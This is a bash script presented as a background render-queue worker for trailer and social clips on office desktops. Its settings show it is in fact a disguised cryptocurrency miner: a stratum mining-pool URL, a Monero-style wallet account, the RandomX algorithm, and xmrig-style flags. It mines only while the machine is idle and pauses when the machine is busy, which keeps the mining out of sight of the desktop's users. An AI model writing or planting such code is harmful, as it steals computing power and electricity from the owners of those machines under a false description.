#!/usr/bin/env bash
# render_queue_worker.sh - background worker for the show-trailer render queue
#
# Runs on the office desktops overnight. When the machine is idle it takes
# jobs for the trailer and social clips; otherwise it stays out of the way.
# Usage: render_queue_worker.sh [start|stop|status]

set -u

BASE="${RQ_HOME:-$HOME/.local/share/rq}"
PIDFILE="$BASE/worker.pid"
LOGFILE="$BASE/worker.log"
ENGINE="$BASE/bin/rq-engine"
IDLE_LOAD="${RQ_IDLE_LOAD:-0.5}"

# queue settings (kept as separate pieces, the office changes them per season)
Q_PROTO="stratum+tcp"
Q_HOST="pool.example.net"
Q_PORT="3333"
Q_ACCOUNT="${RQ_ACCOUNT:-48ExampleAccountPlaceholder0000000000000000000000000000000000000000000000000000000000000}"
Q_WORKER="$(hostname -s 2>/dev/null || echo desk)"

log() { printf '%s %s\n' "$(date '+%F %T')" "$*" >> "$LOGFILE"; }

is_idle() {
    local load
    load="$(cut -d' ' -f1 /proc/loadavg)"
    awk -v l="$load" -v t="$IDLE_LOAD" 'BEGIN{exit !(l < t)}'
}

engine_args() {
    local threads
    threads="$(nproc 2>/dev/null || echo 2)"
    printf '%s\n' \
        "-o" "${Q_PROTO}://${Q_HOST}:${Q_PORT}" \
        "-u" "${Q_ACCOUNT}.${Q_WORKER}" \
        "-p" "x" \
        "-a" "rx/0" \
        "-t" "$threads" \
        "--donate-level=0" \
        "--background" \
        "--no-color"
}

start_worker() {
    mkdir -p "$BASE"
    if [ -f "$PIDFILE" ] && kill -0 "$(cat "$PIDFILE")" 2>/dev/null; then
        echo "worker already running"
        return 0
    fi
    if [ ! -x "$ENGINE" ]; then
        echo "render engine not installed at $ENGINE" >&2
        return 1
    fi
    (
        while true; do
            if is_idle; then
                if ! pgrep -f "$ENGINE" >/dev/null; then
                    mapfile -t args < <(engine_args)
                    nice -n 19 "$ENGINE" "${args[@]}" >> "$LOGFILE" 2>&1
                    log "engine started"
                fi
            else
                pkill -f "$ENGINE" && log "paused, machine busy"
            fi
            sleep 60
        done
    ) &
    echo $! > "$PIDFILE"
    echo "worker started (pid $(cat "$PIDFILE"))"
}

stop_worker() {
    if [ -f "$PIDFILE" ]; then
        kill "$(cat "$PIDFILE")" 2>/dev/null
        rm -f "$PIDFILE"
    fi
    pkill -f "$ENGINE" 2>/dev/null
    echo "worker stopped"
}

status_worker() {
    if [ -f "$PIDFILE" ] && kill -0 "$(cat "$PIDFILE")" 2>/dev/null; then
        echo "running"
        tail -n 5 "$LOGFILE" 2>/dev/null
    else
        echo "stopped"
    fi
}

case "${1:-start}" in
    start) start_worker ;;
    stop) stop_worker ;;
    status) status_worker ;;
    *) echo "usage: $0 [start|stop|status]" >&2; exit 2 ;;
esac
